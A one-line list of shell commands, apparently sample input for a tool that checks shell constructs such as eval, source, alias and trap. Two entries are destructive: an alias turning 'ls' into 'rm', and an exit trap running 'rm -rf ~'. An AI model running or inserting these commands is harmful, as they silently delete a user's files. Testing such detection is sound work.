eval "$c"; source ~/.env; . ./lib.sh; builtin eval x; alias ls='rm'; unalias ls; trap 'rm -rf ~' EXIT
